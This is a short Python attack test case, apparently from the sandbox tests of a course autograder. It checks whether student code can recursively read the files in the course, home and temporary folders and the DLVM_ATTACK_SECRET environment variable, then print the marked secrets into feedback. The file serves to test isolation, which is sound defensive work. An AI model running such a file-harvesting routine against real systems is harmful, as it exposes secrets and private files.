"""Everything secret, by its path.

The attacker knows the course folder, its home and where temporary files lie, opens each of them and prints what is in it. What
is printed comes back with the student's feedback.
"""
# seen: nothing to be read
# layer: walls

# %% attack
import os

FOUND = []


def look_at(path):
    try:
        names = os.listdir(path) if os.path.isdir(path) else []
        if os.path.isfile(path):
            with open(path, "rb") as file:
                FOUND.append(path + ": " + file.read(100_000).decode(errors="replace"))
    except OSError:
        names = []
    for name in names:
        look_at(os.path.join(path, name))


def mischief():
    if not FOUND:
        for path in [place["course"], place["home"], *place["left"]]:
            look_at(path)
        FOUND.append(os.environ.get("DLVM_ATTACK_SECRET", ""))
    secrets = {
        word for text in FOUND for word in text.replace('"', " ").replace("'", " ").split() if place["mark"] in word
    }
    print("\n".join(sorted(secrets)) or "nothing to be read")
